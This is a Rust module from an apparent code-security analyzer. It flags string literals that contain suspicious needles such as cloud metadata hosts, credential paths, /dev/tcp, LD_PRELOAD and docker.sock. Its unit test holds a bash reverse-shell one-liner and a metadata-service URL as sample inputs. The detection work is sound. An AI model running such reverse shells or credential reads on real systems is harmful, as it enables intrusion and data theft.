//! Which needle lists occur in a lower-cased string literal, as bits: one
//! pass of one automaton (built once per process) per literal, instead of a
//! `contains` per needle in each family that reads the literals (a file has
//! hundreds of literals, and the lists below hold some sixty needles).
//! Overlapping matches, so a needle inside another list's match still counts:
//! a bit is set exactly when some needle of its list occurs.

use std::rc::Rc;
use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};

use super::names::{CREDENTIAL_PATHS, METADATA_HOSTS, MINER_MARKERS};
use super::{Analyzer, Node};

/// Every string literal lower-cased (decoded when constant, else as
/// written), and the needle lists each holds. Made once and shared: the
/// configuration families and the string checks each lower-cased and
/// searched every literal themselves.
pub(super) struct Lowered<'t> {
    pub texts: Vec<(Node<'t>, String)>,
    /// For each of `texts`, [`needles_in`] of it.
    pub found: Vec<u16>,
}

impl<'t> Analyzer<'t> {
    /// The literals lower-cased, with their needles (see [`Lowered`]).
    pub(super) fn lowered(&self) -> Rc<Lowered<'t>> {
        self.lowered
            .get_or_init(|| {
                let texts: Vec<(Node<'t>, String)> = self
                    .literals()
                    .map(|(s, v)| (s, v.unwrap_or_else(|| self.text(s)).to_ascii_lowercase()))
                    .collect();
                let found = texts.iter().map(|(_, t)| needles_in(t)).collect();
                Rc::new(Lowered { texts, found })
            })
            .clone()
    }
}

pub(super) const METADATA: u16 = 1;
pub(super) const CREDENTIAL: u16 = 1 << 1;
pub(super) const DEV_TCP: u16 = 1 << 2;
pub(super) const MINER: u16 = 1 << 3;
pub(super) const PRELOAD: u16 = 1 << 4;
pub(super) const DOCKER: u16 = 1 << 5;
/// [`super::database::CATALOGUES`].
pub(super) const CATALOGUE: u16 = 1 << 6;
/// [`super::database::FOREIGN_DATABASES`].
pub(super) const FOREIGN_DB: u16 = 1 << 7;
/// [`PASSWORD_FIELDS`].
pub(super) const PASSWORD_FORM: u16 = 1 << 8;
/// [`PROXY_VARIABLES`].
pub(super) const PROXY_VAR: u16 = 1 << 9;

/// A password field of an HTML form.
pub(super) const PASSWORD_FIELDS: &[&str] =
    &["type=\"password\"", "type='password'", "type=password"];

/// Environment variables that set a web proxy.
pub(super) const PROXY_VARIABLES: &[&str] = &["http_proxy", "https_proxy", "all_proxy"];

/// Every needle, with its list's bit.
fn needle_table() -> Vec<(&'static str, u16)> {
    let lists: [(&[&'static str], u16); 10] = [
        (METADATA_HOSTS, METADATA),
        (CREDENTIAL_PATHS, CREDENTIAL),
        (&["/dev/tcp/", "/dev/udp/"], DEV_TCP),
        (MINER_MARKERS, MINER),
        (&["ld_preload", "/etc/ld.so.preload"], PRELOAD),
        (&["docker.sock"], DOCKER),
        (super::database::CATALOGUES, CATALOGUE),
        (super::database::FOREIGN_DATABASES, FOREIGN_DB),
        (PASSWORD_FIELDS, PASSWORD_FORM),
        (PROXY_VARIABLES, PROXY_VAR),
    ];
    lists
        .iter()
        .flat_map(|(l, bit)| l.iter().map(move |n| (*n, *bit)))
        .collect()
}

/// Which needle lists occur in `lower` (already lower-cased), as bits.
pub(super) fn needles_in(lower: &str) -> u16 {
    static SCAN: OnceLock<Option<(AhoCorasick, Vec<u16>)>> = OnceLock::new();
    let scan = SCAN.get_or_init(|| {
        let table = needle_table();
        // A contiguous NFA: a DFA scans no faster on strings this short and
        // takes far longer to build, which every fresh process pays.
        let ac = AhoCorasick::builder()
            .kind(Some(AhoCorasickKind::ContiguousNFA))
            .build(table.iter().map(|(n, _)| n))
            .ok()?;
        Some((ac, table.iter().map(|(_, bit)| *bit).collect()))
    });
    match scan {
        Some((ac, bits)) => ac.find_overlapping_iter(lower).fold(0, |acc, m| {
            acc | bits.get(m.pattern().as_usize()).copied().unwrap_or(0)
        }),
        // The automaton cannot fail to build from these few short needles;
        // should it, the plain search gives the same answer.
        None => needle_table()
            .iter()
            .filter(|(n, _)| lower.contains(n))
            .fold(0, |acc, (_, bit)| acc | bit),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each bit is set exactly when one of its list's needles occurs.
    #[test]
    fn bits_match_plain_search() {
        let samples = [
            "select name from information_schema.tables",
            "<input type=\"password\" name=pw>",
            "export https_proxy=http://10.0.0.1:3128",
            "~/.thunderbird/x/global-messages-db.sqlite",
            "169.254.169.254/latest/meta-data",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "nothing to see",
        ];
        for s in samples {
            let plain = needle_table()
                .iter()
                .filter(|(n, _)| s.contains(n))
                .fold(0, |acc, (_, bit)| acc | bit);
            assert_eq!(needles_in(s), plain, "{s}");
        }
    }
}
